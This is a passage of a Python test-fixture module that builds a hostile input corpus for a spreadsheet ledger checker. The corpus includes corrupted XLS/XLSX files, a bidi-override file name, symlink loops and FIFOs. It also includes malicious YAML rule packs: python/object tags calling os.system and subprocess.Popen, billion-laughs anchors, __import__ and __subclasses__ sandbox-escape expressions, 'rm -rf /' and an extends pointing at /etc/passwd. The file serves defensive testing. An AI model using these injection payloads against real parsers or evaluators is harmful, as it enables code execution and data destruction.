        Case("\u202excod.xlsx", "a bidi override in the name", ledger=True, clean=True, build=ledger),
    ]


def _flip_member(data: bytes) -> bytes:
    data = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET1)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 20, start + min(info.compress_size, 200), 7):
        data[i] ^= 0x5A
    return bytes(data)


def panic_xls() -> bytes:
    """A .xls with 28 bytes cut out of its OLE directory: python-calamine's Rust code panics on it,
    which Python sees as pyo3's PanicException — a BaseException, not an Exception (found by
    tests/test_fuzz_reader.py)."""
    data = ledger_xls()
    return data[:5448] + data[5448 + 28:]


def _xls_dimensions() -> bytes:
    data = bytearray(ledger_xls())
    dims = data.find(b"\x00\x02\x0e\x00")  # DIMENSIONS, BIFF8
    struct.pack_into("<I", data, dims + 8, 0xFFFFFFF0)
    return bytes(data)


CASES: list[Case] = _cases()


def _pack(body: str) -> str:
    return "version: 1\nname: 恶意规则包\n" + body


def _custom(where: str, message: str = "x") -> str:
    return _pack(f"custom:\n  - code: T001\n    kind: cash_journal\n    where: {where!r}\n    message: {message!r}\n")


PACK_CASES: list[PackCase] = [
    PackCase("python-object.yaml", "a YAML tag that calls os.system",
             _pack(f'params: !!python/object/apply:os.system ["touch {PWNED}"]\n'), "YAML"),
    PackCase("python-new.yaml", "a YAML tag that constructs a subprocess",
             f'!!python/object/new:subprocess.Popen [["touch", "{PWNED}"]]\n', "YAML"),
    PackCase("python-name.yaml", "a YAML tag naming a Python function", _pack("description: !!python/name:os.system\n"),
             "YAML"),
    PackCase("python-module.yaml", "a YAML tag importing a module", _pack("description: !!python/module:os\n"), "YAML"),
    PackCase("anchors.yaml", "billion laughs with anchors and aliases",
             "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
                 f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
                 for i in range(8)), "锚点"),
    PackCase("deep.yaml", "lists nested 5,000 deep", _pack("params: " + "[" * 5000 + "]" * 5000 + "\n"), "嵌套"),
    PackCase("binary.yaml", "random bytes", _rng("pack").randbytes(2048), "UTF-8"),
    PackCase("not-yaml.yaml", "text that is not YAML", "version: 1\nrules: {{{ ]]] : : -\n\t- x: [\n", "YAML"),
    PackCase("workbook.yaml", "a workbook passed as a rule pack", b"", "UTF-8"),  # bytes filled in by make_corpus
    PackCase("list.yaml", "a YAML list, not a mapping", "- a\n- b\n", "键值对"),
    PackCase("unknown-code.yaml", "a rule code that does not exist", _pack("rules:\n  ZZ99: {enabled: false}\n"), "ZZ99"),
    PackCase("unknown-key.yaml", "a top-level key that does not exist", _pack("execute: rm -rf /\n"), "execute"),
    PackCase("expr-dunder.yaml", "an expression reaching __class__", _custom("summary.__class__.__mro__"), "where"),
    PackCase("expr-import.yaml", "an expression calling __import__",
             _custom(f"__import__('os').system('touch {PWNED}')"), "where"),
    PackCase("expr-lambda.yaml", "a lambda", _custom("(lambda: 1)() == 1"), "where"),
    PackCase("expr-subclasses.yaml", "a subscript walk to object's subclasses",
             _custom("().__class__.__bases__[0].__subclasses__()"), "where"),
    PackCase("expr-format.yaml", "a message template reaching attributes", _custom("credit > 0", "{amount.__class__}"),
             "message"),
    PackCase("expr-long.yaml", "an expression 200,000 characters long", _custom("1" + "+1" * 100_000 + " > 0"), "过长"),
    PackCase("limits-unknown.yaml", "a reading limit that does not exist", _pack("limits:\n  max_fun: 3\n"), "max_fun"),
    PackCase("limits-negative.yaml", "a negative reading limit", _pack("limits:\n  max_rows: -5\n"), "max_rows"),
    PackCase("limits-type.yaml", "a reading limit of the wrong type", _pack("limits:\n  max_cell_chars: [1, 2]\n"),
             "max_cell_chars"),
    PackCase("limits-section.yaml", "a limits section that is a list", _pack("limits: [max_rows]\n"), "limits"),
    PackCase("huge.yaml", "a 2 MB pack", _pack("description: " + "长" * 700_000 + "\n"), "1 MB"),
    PackCase("extends-passwd.yaml", "extends a system file", _pack("extends: /etc/passwd\n"), "extends"),
    PackCase("extends-self.yaml", "extends itself", _pack("extends: extends-self.yaml\n"), "循环"),
]


# ---- writing ------------------------------------------------------------------------------------


@dataclass
class Corpus:
    root: Path
    good: Path
    data: Path
    packs: Path
    files: dict[str, Path] = field(default_factory=dict)      # case id → file
    pack_files: dict[str, Path] = field(default_factory=dict)  # pack case name → file


def make_corpus(dest: str | os.PathLike) -> Corpus:
    """Write the corpus under `dest`: good/东村.xlsx, data/<case files>, packs/<pack files>."""
    root = Path(dest)
    corpus = Corpus(root, root / "good" / "东村.xlsx", root / "data", root / "packs")
    for folder in (corpus.good.parent, corpus.data, corpus.packs):
        folder.mkdir(parents=True, exist_ok=True)
    corpus.good.write_bytes(ledger_xlsx())
    for case in CASES:
        name = case.name if isinstance(case.name, bytes) else case.name.encode()
        path = Path(os.fsdecode(os.path.join(os.fsencode(corpus.data), name)))
        path.write_bytes(case.build())
        corpus.files[case.id] = path
    for pack in PACK_CASES:
        path = corpus.packs / pack.name
        text = ledger_xlsx() if pack.name == "workbook.yaml" else pack.text
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        corpus.pack_files[pack.name] = path
    return corpus


def make_special_files(folder: Path, good: Path) -> dict[str, Path]:
    """What only a live POSIX file system holds: a FIFO, a symlink loop, a dangling link, a link to
    a folder above (a directory loop), a link to a good ledger, a sparse 300 MB file. Returns name →
    path of what was made (some may be missing where the platform cannot make them)."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, Path] = {}

    def attempt(name: str, make: Callable[[Path], None]) -> None:
        path = folder / name
        try:
            make(path)
            made[name] = path
        except (OSError, NotImplementedError, AttributeError):
            pass

    attempt("fifo.xlsx", lambda p: os.mkfifo(p))
    attempt("loop-a.xlsx", lambda p: (os.symlink("loop-b.xlsx", p), os.symlink("loop-a.xlsx", folder / "loop-b.xlsx")))
    attempt("dangling.xlsx", lambda p: os.symlink("no-such-file.xlsx", p))
    attempt("sub", lambda p: (p.mkdir(), os.symlink("..", p / "up")))
    attempt("link.xlsx", lambda p: os.symlink(os.path.relpath(good, folder), p))

    def sparse(path: Path) -> None:
        with open(path, "wb") as fh:
            fh.truncate(300 * 2**20)
    attempt("sparse-300MB.xlsx", sparse)
    return made


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    made = make_corpus(target)
    special = make_special_files(target / "fs", made.good)
    print(f"{len(made.files)} data files, {len(made.pack_files)} packs, {len(special)} special entries in {target}")
